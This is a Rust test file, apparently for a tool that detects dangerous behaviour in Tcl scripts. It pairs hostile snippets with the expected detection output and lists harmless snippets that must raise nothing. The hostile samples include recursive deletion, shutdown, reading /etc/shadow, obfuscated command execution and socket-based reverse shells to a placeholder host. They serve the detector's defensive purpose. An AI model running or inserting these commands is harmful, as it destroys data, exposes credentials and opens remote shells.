use super::recorder::{check, silent};
use crate::lang::Lang;

#[test]
fn what_reaches_outside_is_found() {
    check(
        Lang::Tcl,
        &[
            ("puts [exec sh -c {shutdown -h now}]", "run sh -c shutdown -h now"),
            ("exec rm -rf /x", "run rm -rf /x"),
            ("spawn sh -c {git push --force}; expect eof", "run sh -c git push --force"),
            ("spawn /bin/sh;interact", "run /bin/sh"),
            ("spawn bash\nsend \"halt\\r\"\nexpect eof", "shell: halt\n".trim_end()),
            ("set c rm; exec $c -rf /x", "run rm -rf /x"),
            ("exec [string reverse mr] -rf /x", "run rm -rf /x <decoded>"),
            ("exec sh -c [binary decode base64 aGFsdA==]", "run sh -c halt <decoded>"),
            ("eval {exec halt}", "run halt"),
            ("if {1} { exec halt }", "run halt"),
            ("proc f {c} { exec $c }\nf halt", "run halt"),
            ("set f [open /etc/x w]; puts $f p", "Write /etc/x = p [appending]"),
            ("set f [open /etc/shadow]; puts [read $f]", "Read /etc/shadow"),
            ("open \"|id -u\"", "shell: id -u"),
            ("file delete -force /x", "Delete /x [recursive] [forced]"),
            ("exec echo p > /etc/x", "Write /etc/x [emptying]"),
            ("source /tmp/x.tcl", "script tcl /tmp/x.tcl"),
            ("set s [socket h 1]; gets $s c; eval exec $c", "Connect h:1"),
            (
                "set s [socket h 1];while {1} {gets $s c;set e \"exec $c\";catch {eval $e} r;puts $s $r;flush $s}",
                "Connect h:1",
            ),
            (
                "set s [socket h 1]; exec /bin/sh <@$s >@$s",
                "Execute shell  [interactive] [remotely controlled] <network>",
            ),
            ("puts [array get env]", "Read environment"),
        ],
    );
}

#[test]
fn harmless_code_says_nothing() {
    silent(
        Lang::Tcl,
        &[
            "puts hello",
            "puts {exec rm -rf /}",
            "# exec rm",
            "set x 1; puts $x",
            "puts [expr 1+1]",
            "foreach i {1 2 3} { puts $i }",
            "puts \"exec rm\"",
            "package require Tcl",
            "puts [info tclversion]",
            "if {$x} {puts 1} else {puts 2}",
            "puts $env(HOME)",
        ],
    );
}
